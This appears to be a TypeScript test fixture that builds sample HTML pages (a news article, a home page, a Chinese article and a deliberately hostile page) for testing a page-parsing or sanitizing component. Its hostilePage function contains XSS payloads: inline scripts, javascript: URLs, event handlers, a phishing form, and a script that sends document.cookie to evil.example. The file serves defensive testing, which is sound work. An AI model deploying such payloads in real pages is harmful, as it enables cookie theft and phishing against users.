/**
 * Fixture pages for the `page` object: an article, a home page, a CJK article and a page with a
 * hostile script. Word counts are known by construction.
 */

/** `n` distinct-ish English words. */
export function words(n: number, seed = 0): string {
  const vocab = [
    'river',
    'stone',
    'garden',
    'light',
    'morning',
    'history',
    'engine',
    'paper',
    'window',
    'market',
    'winter',
    'signal',
    'harbor',
    'forest',
    'letter',
    'silver',
  ];
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(vocab[(i * 7 + seed) % vocab.length]);
  return out.join(' ');
}

/** Paragraphs totalling `total` words, `per` words each (the last may be shorter). */
export function paragraphs(total: number, per = 60): string[] {
  const out: string[] = [];
  for (let i = 0; i < total; i += per) out.push(`${words(Math.min(per, total - i), i)}.`);
  return out;
}

/** The article's prose: 1150 words in paragraphs, plus a heading, list, link, code and table. */
export const ARTICLE_PROSE_WORDS = 1150;

export function articlePage(origin = 'https://news.example'): string {
  const paras = paragraphs(ARTICLE_PROSE_WORDS);
  return `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>How rivers shape stone | The Example Times</title>
  <meta name="description" content="A long read about rivers.">
  <meta property="og:title" content="How rivers shape stone">
  <link rel="stylesheet" href="/site.css">
</head>
<body>
  <header class="site-header"><nav><a href="/">Home</a> <a href="/world">World</a> <a href="/sport">Sport</a></nav></header>
  <main>
    <article>
      <h1>How rivers shape stone</h1>
      <p class="byline">By Ada Writer</p>
      ${paras
        .slice(0, 6)
        .map((p) => `<p>${p}</p>`)
        .join('\n      ')}
      <h2>The slow work of water</h2>
      <p>Read the <a href="/science/erosion">erosion primer</a> and the <a href="https://other.example/map">map</a> first.</p>
      <ul>
        <li>Abrasion by sand</li>
        <li>Solution of limestone</li>
        <li>Hydraulic action</li>
      </ul>
      <img src="images/canyon.jpg" alt="A canyon" width="800" height="600">
      ${paras
        .slice(6, 12)
        .map((p) => `<p>${p}</p>`)
        .join('\n      ')}
      <h2>Measuring it</h2>
      <pre><code class="language-python">def rate(depth, years):
    return depth / years
</code></pre>
      <table>
        <thead><tr><th>River</th><th>Rate</th></tr></thead>
        <tbody><tr><td>Colorado</td><td>0.3</td></tr><tr><td>Yangtze</td><td>0.2</td></tr></tbody>
      </table>
      ${paras
        .slice(12)
        .map((p) => `<p>${p}</p>`)
        .join('\n      ')}
    </article>
  </main>
  <aside class="sidebar"><h3>Most read</h3><ul><li><a href="/a">Something else entirely</a></li></ul></aside>
  <footer><p>© The Example Times. All rights reserved. Contact us at ${origin}.</p></footer>
  <script>window.tracker = 1;</script>
</body>
</html>`;
}

/** A home page: navigation, a hero, teaser cards and a footer; not an article. */
export function homePage(): string {
  const cards = ['Fast previews', 'Hosted images', 'Self hosted'].map(
    (t, i) => `<div class="card"><h3>${t}</h3><p>${words(12, i)}.</p><a href="/features/${i}">More</a></div>`,
  );
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Acme — Home</title></head>
<body>
  <header><a href="/"><img src="/logo.png" alt="Acme logo"></a><nav><ul><li><a href="/pricing">Pricing</a></li><li><a href="/docs">Docs</a></li><li><a href="/login">Log in</a></li></ul></nav></header>
  <div id="cookie-banner">We use cookies. <button>Accept</button></div>
  <section class="hero"><h1>Build faster with Acme</h1><p>The toolkit for teams who ship.</p></section>
  <section class="features">${cards.join('')}</section>
  <footer><nav><a href="/about">About</a> <a href="/jobs">Jobs</a></nav><p>Copyright Acme Inc.</p></footer>
</body>
</html>`;
}

/** A Chinese article: CJK_CHARS Han characters of prose (plus a few Latin words). */
export const CJK_PROSE_CHARS = 1500;

export function cjkArticlePage(): string {
  const han = '河流塑造石头的过程非常缓慢但是从不停止水与沙一起慢慢地打磨山谷';
  const paras: string[] = [];
  let count = 0;
  while (count < CJK_PROSE_CHARS) {
    const n = Math.min(150, CJK_PROSE_CHARS - count);
    let p = '';
    for (let i = 0; i < n; i++) p += han[(count + i) % han.length];
    paras.push(`${p}。`);
    count += n;
  }
  return `<!doctype html>
<html lang="zh">
<head><meta charset="utf-8"><title>河流如何塑造石头</title></head>
<body>
  <nav><a href="/">首页</a></nav>
  <article>
    <h1>河流如何塑造石头</h1>
    ${paras.map((p) => `<p>${p}</p>`).join('\n    ')}
  </article>
</body>
</html>`;
}

/** An article laced with script, handlers, javascript: URLs, iframes, forms, styles and data: URIs. */
export function hostilePage(): string {
  return `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8"><title>Totally normal article</title>
  <script>document.cookie = "stolen=1"</script>
  <style>body { background: url(javascript:alert(1)) }</style>
</head>
<body onload="alert('body')">
  <article>
    <h1>Totally normal article</h1>
    ${paragraphs(400)
      .map((p, i) => `<p onclick="alert(${i})" style="color:red" class="x" id="p${i}">${p}</p>`)
      .join('\n    ')}
    <p><a href="javascript:alert('link')">click me</a> <a href="JaVaScRiPt:alert(2)">again</a> <a href="/relative/page" onmouseover="steal()">relative</a></p>
    <p><img src="x.png" onerror="alert('img')"> <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></p>
    <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
    <iframe src="https://evil.example/frame"></iframe>
    <form action="https://evil.example/phish"><input name="password"><button>Go</button></form>
    <svg onload="alert('svg')"><script>alert('svg script')</script></svg>
    <object data="evil.swf"></object><embed src="evil.swf">
    <p><custom-widget onfocus="x()">widget text</custom-widget></p>
    <noscript><img src="https://evil.example/pixel"></noscript>
  </article>
</body>
</html>`;
}
